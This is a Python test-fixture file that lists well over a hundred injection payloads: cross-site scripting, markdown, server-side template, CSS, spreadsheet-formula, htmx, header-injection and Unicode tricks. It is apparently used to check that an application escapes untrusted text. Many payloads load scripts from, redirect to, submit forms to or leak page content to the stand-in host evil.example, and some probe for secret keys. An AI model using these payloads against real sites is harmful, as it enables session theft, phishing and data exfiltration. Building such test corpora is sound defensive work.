"""What an attacker writes.

Were one of these texts taken for markup, one of four things would show: an element or attribute named `pwned`, a
dialog, a request to `evil.example` or to `/evil`, or `pwned49pwned` where a template engine did the sum."""

# Something to other readers: scripts, markdown, template engines, styles, spreadsheets, eyes.
OTHERS = [
    "';alert(1)//", "\";alert(1)//", "\\u003cscript pwned\\u003ealert(1)\\u003c/script\\u003e", "%3Cimg%20pwned%20src%3Dx%20onerror%3Dalert(1)%3E",
    "[x](javascript:alert(1))", "![x](//evil.example/i.png)", "![x](x\"onerror=\"alert(1))", "[x]: javascript:alert(1)\n[x]", "<javascript:alert(1)>",
    "```<img pwned src=x onerror=alert(1)>```", "pwned{{7*7}}pwned", "pwned{%print(7*7)%}pwned", "pwned${7*7}pwned", "pwned<%= 7*7 %>pwned",
    "pwned#{7*7}pwned", "{{constructor.constructor('alert(1)')()}}", "{{config}} {% raw %}", "%(x)s {0.__class__} %s%n", "{{ shell.csrf }} {{ settings.secret_key }}",
    "red;background:url(//evil.example/c)", "expression(alert(1))", "=HYPERLINK(\"//evil.example\",\"x\")", "javas\u00adcript:alert(1)",
    "Z\u0336a\u0336l\u0336g\u0336o\u0336 \u200b\u200d\u2028\u2029", "<img\u00a0pwned src=x\u3000onerror=alert(1)>",
]  # fmt: skip
# Markup, if a page takes no care.
MARKUP = [
    # elements that run
    "<script pwned>alert(1)</script>", "<script pwned src=//evil.example/x.js></script>", "<ScRiPt/pwned>alert(1)</sCrIpT >",
    "<script pwned type=module>import '//evil.example/x.js'</script>", "<<script pwned>alert(1)//<</script>",
    "<script pwned>/*\n*/alert(1)//\n</script>",
    # out of the text, the attribute or the comment it stands in
    "\"><script pwned>alert(1)</script>", "'><script pwned>alert(1)</script>", "</title><script pwned>alert(1)</script>",
    "</textarea><script pwned>alert(1)</script>", "</style><script pwned>alert(1)</script>", "</script><script pwned>alert(1)</script>",
    "--><script pwned>alert(1)</script>", "<!--><script pwned>alert(1)</script>-->", "]]><script pwned>alert(1)</script>",
    "</select><img pwned src=x onerror=alert(1)>", "</template><img pwned src=x onerror=alert(1)>", "</noscript><img pwned src=x onerror=alert(1)>",
    "\" pwned autofocus onfocus=\"alert(1)", "' pwned onmouseover='alert(1)", "` pwned onmouseover=`alert(1)", "x pwned onmouseover=alert(1) y",
    "\" pwned style=\"animation-name:x\" onanimationstart=\"alert(1)", "\\\" pwned onfocus=alert(1) autofocus//",
    "</script><svg pwned onload=alert(1)>", "\\x3cimg pwned src=x onerror=alert(1)\\x3e",
    # event handlers without a script
    "<img pwned src=x onerror=alert(1)>", "<img pwned src=//evil.example/i.png>", "<body pwned onload=alert(1)>",
    "<details pwned open ontoggle=alert(1)>", "<input pwned autofocus onfocus=alert(1)>", "<video pwned><source onerror=alert(1)></video>",
    "<audio pwned src=//evil.example/a onerror=alert(1)>", "<marquee pwned onstart=alert(1)>x</marquee>", "<select pwned autofocus onfocus=alert(1)>",
    "<div pwned onpointerrawupdate=alert(1) style=position:fixed;inset:0>x</div>", "<b pwned contenteditable autofocus onfocus=alert(1)>x</b>",
    "<style pwned>@keyframes x{}</style><b style=animation-name:x onanimationstart=alert(1)>x</b>", "<b pwned popover id=p onbeforetoggle=alert(1)>x</b>",
    "<img/pwned/src=x/onerror=alert(1)>", "<img pwned src=x onerror\n=\nalert(1)>", "<iframe pwned onload=alert(1)></iframe>",
    # frames, objects, what takes the whole page along
    "<iframe pwned src=javascript:alert(1)></iframe>", "<iframe pwned srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe pwned src=//evil.example/f></iframe>", "<object pwned data=//evil.example/o></object>", "<embed pwned src=//evil.example/e>",
    "<object pwned data='data:text/html,<script>alert(1)</script>'></object>", "<meta pwned http-equiv=refresh content='0;url=//evil.example/m'>",
    "<base pwned href=//evil.example/>", "<link pwned rel=stylesheet href=//evil.example/c.css>", "<link pwned rel=prefetch href=//evil.example/p>",
    "<form pwned action=//evil.example/f><button autofocus>Save</button></form>", "<button pwned form=main formaction=//evil.example/b>Save</button>",
    "<frameset pwned onload=alert(1)>", "<portal pwned src=//evil.example/>", "<isindex pwned action=javascript:alert(1) type=image>",
    # SVG and MathML
    "<svg/pwned/onload=alert(1)>", "<svg pwned><script>alert(1)</script></svg>", "<svg pwned><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg pwned><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>",
    "<svg pwned><use href=//evil.example/s.svg#x /></svg>", "<svg pwned><image href=//evil.example/i.svg /></svg>",
    "<svg pwned><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>", "<math pwned><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math pwned><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # parsed twice it becomes another thing
    "<noscript pwned><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<svg pwned></p><style><a id=\"</style><img src=x onerror=alert(1)>\">",
    "<form pwned><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<template pwned><script>alert(1)</script></template>",
    "<listing pwned>&lt;img src=x onerror=alert(1)&gt;</listing>", "<xmp pwned><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "&lt;script pwned&gt;alert(1)&lt;/script&gt;", "&amp;lt;img pwned src=x onerror=alert(1)&amp;gt;",
    "<a pwned id=cookie></a><a pwned id=cookie name=x></a>", "<img pwned name=getElementById>",
    # htmx
    "<div pwned hx-get=/evil hx-trigger=load></div>", "<div pwned data-hx-get=/evil data-hx-trigger=load></div>", "<b pwned hx-on:click=alert(1) hx-on::load=alert(1)>x</b>",
    "<div pwned hx-on--load=alert(1) hx-trigger='load[alert(1)]' hx-post=/evil></div>", "\" pwned hx-get=\"/evil\" hx-trigger=\"load\" x=\"",
    "<hx-partial pwned hx-target=body><img src=x onerror=alert(1)></hx-partial>", "<div pwned hx-vals='js:{x:alert(1)}' hx-get=/evil hx-trigger=load></div>",
    # addresses
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "\x01javascript:alert(1)", "javascript&colon;alert(1)",
    "data:text/html,<script pwned>alert(1)</script>", "vbscript:alert(1)", "//evil.example/x", "https://evil.example@127.0.0.1/", "\\\\evil.example\\x",
    "<a pwned href=javascript:alert(1)>x</a>", "<a pwned href='&#x6A;avascript:alert(1)'>x</a>", "javascript://desk.example/%0aalert(1)",
    # styles
    "<style pwned>@import '//evil.example/c.css'</style>", "<b pwned style=background:url(//evil.example/b)>x</b>",
    "}</style><b pwned>x</b>", "<p pwned style='position:fixed;inset:0;z-index:9999'>Sign in again</p>",
    # letters
    "\u202e<gpj.exe pwned>", "\uff1cimg pwned src=x onerror=alert(1)\uff1e", "\ufe64img pwned onerror=alert(1)\ufe65",
    "\u02ba\u2019\u201dpwned onfocus=alert(1)", "\ufeff<b pwned>x</b>", "👩‍👩‍👧‍👦<b pwned>",
    "<\x0bimg pwned src=x onerror=alert(1)>", "\r\nX-Pwned: 1\r\n\r\n<b pwned>x</b>",
    # unfinished: it takes along what follows, so it comes last
    "<img pwned src='//evil.example/?", "<a pwned href='//evil.example/?", "<textarea pwned>", "<plaintext pwned>",
]  # fmt: skip
CORPUS = [*OTHERS, *MARKUP, "<!--"]
ALL = "\n".join(CORPUS)
